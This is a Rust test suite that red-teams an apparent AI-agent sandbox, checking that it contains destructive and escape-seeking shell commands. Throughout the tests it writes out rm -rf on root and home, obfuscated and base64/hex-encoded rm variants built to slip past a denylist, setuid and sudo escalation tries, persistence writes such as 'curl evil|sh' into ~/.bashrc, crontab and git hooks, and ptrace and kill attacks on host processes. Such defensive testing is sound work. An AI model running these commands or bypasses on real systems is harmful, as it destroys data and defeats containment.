//! Red-team rows 34–42 (section C): destruction and denylist bypasses.
//! Each test asserts the outcome: sentinels outside WS survive, protected
//! paths keep their content, processes outside the sandbox are untouched.

use std::process::{Child, Command, Stdio};

use super::harness::{processes_with, require_tool, sleep_marker, Fixture};

/// Standard base64 (the payload encoder for row 37).
fn b64(input: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in input.as_bytes().chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn b64_matches_known_vector() {
    assert_eq!(b64("rm -rf /"), "cm0gLXJmIC8=");
    assert_eq!(b64("ab"), "YWI=");
}

/// A host process the sandboxed command tries to harm; killed on drop.
struct Victim(Child);

impl Victim {
    fn spawn(marker: &str) -> Self {
        Victim(
            Command::new("sleep")
                .arg(marker)
                .stdin(Stdio::null())
                .spawn()
                .unwrap(),
        )
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
    fn tracer_pid(&self) -> String {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap();
        status
            .lines()
            .find(|l| l.starts_with("TracerPid:"))
            .unwrap()
            .to_string()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn row34_rm_rf_root_and_home() {
    let f = Fixture::new();
    let out = f.run("rm -rf --no-preserve-root / 2>/dev/null; rm -rf / 2>/dev/null; rm -rf ~ 2>/dev/null; rm -rf \"$HOME\"/.sentinel-* /tmp/sentinel-* 2>/dev/null; echo done");
    assert_eq!(out.stdout, "done\n", "{out:?}");
    f.assert_sentinels_intact();
    assert!(std::path::Path::new("/usr/bin/env").exists());
}

#[test]
fn row35_destruction_inside_ws_is_confined_to_ws() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.path().join("src")).unwrap();
    std::fs::write(f.path().join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::create_dir_all(f.path().join(".git")).unwrap();
    std::fs::write(f.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let out = f.run(
        "find . -delete 2>/dev/null; rm -rf . 2>/dev/null; git clean -xdf 2>/dev/null; echo done",
    );
    assert_eq!(out.stdout, "done\n", "{out:?}");
    // Allowed damage: unprotected workspace files are gone.
    assert!(
        !f.path().join("src/main.rs").exists(),
        "the sandbox should allow deleting WS files"
    );
    // Protected paths and everything outside WS survive.
    assert_eq!(
        std::fs::read_to_string(f.path().join(".git/HEAD")).unwrap(),
        "ref: refs/heads/main\n"
    );
    f.assert_sentinels_intact();
}

/// Runs `variant` (with `$T` = target) against a WS file (must be deleted:
/// proves the variant really executes) and against both sentinels (must
/// survive).
fn check_bypass(f: &Fixture, variant: &str) {
    let inside = f.path().join("victim.txt");
    std::fs::write(&inside, "x").unwrap();
    let out = f.run(&variant.replace("$T", inside.to_str().unwrap()));
    assert!(
        !inside.exists(),
        "variant did not run at all: {variant}\n{out:?}"
    );
    for target in [&f.sentinel, &f.home_sentinel] {
        // The guard inside `run` proves the sandbox held; the sentinels prove the outcome.
        f.run(&variant.replace("$T", target.to_str().unwrap()));
    }
    f.assert_sentinels_intact();
}

#[test]
fn row36_denylist_bypasses() {
    require_tool("/usr/bin/python3");
    require_tool("/usr/bin/perl");
    let f = Fixture::new();
    let variants = [
        "r''m -f $T",
        "r\\m -f $T",
        "\"rm\" -f $T",
        "$(printf rm) -f $T",
        "`echo rm` -f $T",
        "${x:-rm} -f $T",
        "a=r;b=m;$a$b -f $T",
        "/bin/rm -f $T",
        "command rm -f $T",
        "env rm -f $T",
        "echo $T | xargs rm -f",
        "busybox rm -f $T 2>/dev/null || rm -f $T",
        "python3 -c 'import os,sys; os.remove(sys.argv[1])' $T",
        "python3 -c 'import shutil; shutil.rmtree(\"/\", ignore_errors=True)'; rm -f $T",
        "perl -e 'unlink $ARGV[0]' $T",
    ];
    for v in variants {
        check_bypass(&f, v);
    }
}

#[test]
fn row37_encoded_commands() {
    require_tool("/usr/bin/xxd");
    let f = Fixture::new();
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    let targets = [
        f.path().join("victim.txt"),
        f.sentinel.clone(),
        f.home_sentinel.clone(),
    ];
    for (i, t) in targets.iter().enumerate() {
        std::fs::write(f.path().join("victim.txt"), "x").unwrap();
        let payload = format!("rm -f {}", t.display());
        for cmd in [
            format!("echo {} | base64 -d | sh", b64(&payload)),
            format!("echo {} | xxd -r -p | bash", hex(&payload)),
            format!("eval \"$(echo {} | base64 -d)\"", b64(&payload)),
        ] {
            let out = f.run(&cmd);
            if i == 0 {
                assert!(!t.exists(), "encoded variant did not run: {cmd}\n{out:?}");
                std::fs::write(t, "x").unwrap();
            }
        }
    }
    f.assert_sentinels_intact();
}

fn status_field(text: &str, field: &str) -> String {
    text.lines()
        .find(|l| l.starts_with(field))
        .unwrap_or_else(|| panic!("no {field} in {text}"))
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_string()
}

#[test]
fn row38_no_privilege_escalation() {
    let f = Fixture::new();
    let out = f.run("cat /proc/self/status");
    assert_eq!(status_field(&out.stdout, "NoNewPrivs:"), "1");
    for cap in ["CapEff:", "CapPrm:", "CapBnd:", "CapAmb:", "CapInh:"] {
        assert_eq!(status_field(&out.stdout, cap), "0000000000000000", "{cap}");
    }
    // A setuid copy of a shell keeps the caller's (empty) capabilities and
    // cannot write outside WS; sudo/su/unshare -r gain nothing either.
    let cmd = f.fill(
        "cp /bin/bash ./suid; chmod u+s ./suid; ./suid -p -c 'grep CapEff /proc/self/status; echo pwn > $S'; \
         su -c 'echo pwn > $S' 2>/dev/null; sudo sh -c 'echo pwn > $S' 2>/dev/null; unshare -r sh -c 'echo pwn > $S' 2>/dev/null; true",
    );
    let out = f.run(&cmd);
    assert_eq!(
        status_field(&out.stdout, "CapEff:"),
        "0000000000000000",
        "{out:?}"
    );
    f.assert_sentinels_intact();
}

/// Part of row 38: no new namespaces (a user namespace would hand the
/// command a fresh set of capabilities). `clone(CLONE_NEWUSER)` gets EPERM,
/// `clone3` ENOSYS (libc then falls back to `clone`), and plain forks and
/// threads still work.
#[test]
fn row38_no_new_namespaces() {
    require_tool("/usr/bin/python3");
    let f = Fixture::new();
    let script = [
        "import ctypes, os, threading",
        "l = ctypes.CDLL(None, use_errno=True)",
        "r = l.syscall(56, 0x10000000 | 17, 0, 0, 0, 0); e = ctypes.get_errno()",
        "r3 = l.syscall(435, 0, 0); e3 = ctypes.get_errno()",
        "t = threading.Thread(target=lambda: None); t.start(); t.join()",
        "p = os.fork()",
        "if p == 0: os._exit(7)",
        "print(r, e, r3, e3, os.waitpid(p, 0)[1] >> 8)",
    ];
    std::fs::write(f.path().join("ns.py"), script.join("\n")).unwrap();
    let out = f.run("python3 ns.py; unshare -U true 2>/dev/null; echo unshare=$?");
    assert_eq!(out.stdout, "-1 1 -1 38 7\nunshare=1\n", "{out:?}");
}

#[test]
fn row39_persistence_is_denied() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.path().join(".git/hooks")).unwrap();
    std::fs::write(f.path().join(".env"), "KEEP=1\n").unwrap();
    std::fs::write(f.path().join("reagent.toml"), "[sandbox]\n").unwrap();
    let bashrc = std::path::Path::new("/root/.bashrc");
    let bashrc_before = std::fs::read(bashrc).ok();
    let cmd = f.fill(
        "echo 'curl evil|sh' >> ~/.bashrc; echo x >> $H; (echo '* * * * * evil' | crontab -) 2>/dev/null; \
         mkdir -p ~/.config/systemd/user 2>/dev/null; echo evil > ~/.config/systemd/user/evil.service; \
         systemctl --user enable evil 2>/dev/null; \
         printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo 'EVIL=1' >> .env; echo 'evil=1' >> reagent.toml; mv .env moved.env; rm -rf .git; true",
    );
    let out = f.run(&cmd);
    assert_eq!(out.exit_code, Some(0), "{out:?}");
    assert!(
        !f.path().join(".git/hooks/pre-commit").exists(),
        "git hook was written"
    );
    assert_eq!(
        std::fs::read_to_string(f.path().join(".env")).unwrap(),
        "KEEP=1\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.path().join("reagent.toml")).unwrap(),
        "[sandbox]\n"
    );
    assert_eq!(
        std::fs::read(bashrc).ok(),
        bashrc_before,
        "~/.bashrc changed"
    );
    assert!(!std::path::Path::new("/root/.config/systemd/user/evil.service").exists());
    f.assert_sentinels_intact();
}

#[test]
fn row40_cannot_signal_the_agent_or_host_processes() {
    let f = Fixture::new();
    let marker = sleep_marker();
    let mut victim = Victim::spawn(&marker);
    let cmd = format!(
        "kill -9 -1; pkill -9 -f {marker}; kill -9 {victim}; kill -9 {me}; kill -TERM -1; true",
        victim = victim.pid(),
        me = std::process::id()
    );
    let out = f.run(&cmd);
    assert!(out.duration.as_secs() < 15, "{out:?}");
    assert!(victim.alive(), "host process was killed from the sandbox");
    assert_eq!(processes_with(&marker).len(), 1);
}

#[test]
fn row41_no_ptrace_or_proc_mem() {
    require_tool("/usr/bin/python3");
    let f = Fixture::new();
    let marker = sleep_marker();
    let victim = Victim::spawn(&marker);
    // pid 1 is the namespace init (a copy of the agent, root with caps): the
    // juiciest target. gdb would make it unlink the sentinel.
    let cmd = f.fill(&format!(
        "gdb -p 1 -batch -ex 'call (int)unlink(\"$S\")' >/dev/null 2>&1; \
         gdb -p {v} -batch -ex 'call (int)unlink(\"$S\")' >/dev/null 2>&1; \
         python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); \
         r=[l.ptrace(16,p,0,0) for p in (1,{v})]; e=ctypes.get_errno(); \
         m=[__import__(\"os\").path.exists(\"/proc/%d/mem\" % {v})]; print(r, e, m)'; \
         head -c 16 /proc/1/mem >/dev/null 2>&1 && echo MEM-READ; true",
        v = victim.pid()
    ));
    let out = f.run(&cmd);
    // PTRACE_ATTACH returned -1 for both targets with EPERM, and the host
    // victim is not even visible.
    assert_eq!(out.stdout.trim(), "[-1, -1] 1 [False]", "{out:?}");
    assert_eq!(victim.tracer_pid(), "TracerPid:\t0");
    f.assert_sentinels_intact();
}

#[test]
fn row42_no_io_uring() {
    require_tool("/usr/bin/python3");
    let f = Fixture::new();
    // io_uring_setup(8, &params) is syscall 425 on x86_64 and aarch64.
    let out = f.run(
        "python3 -c 'import ctypes; l=ctypes.CDLL(None,use_errno=True); p=ctypes.create_string_buffer(120); \
         r=l.syscall(425, 8, p); print(r, ctypes.get_errno())'",
    );
    assert_eq!(
        out.stdout.trim(),
        "-1 1",
        "io_uring_setup must fail with EPERM: {out:?}"
    );
    // Control: the same call works outside the sandbox, so the denial is ours.
    let host = Command::new("/usr/bin/python3")
        .args(["-c", "import ctypes,os; l=ctypes.CDLL(None,use_errno=True); p=ctypes.create_string_buffer(120); r=l.syscall(425, 8, p); print(r >= 0)"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&host.stdout).trim(),
        "True",
        "io_uring unavailable on the host: the test proves nothing"
    );
}
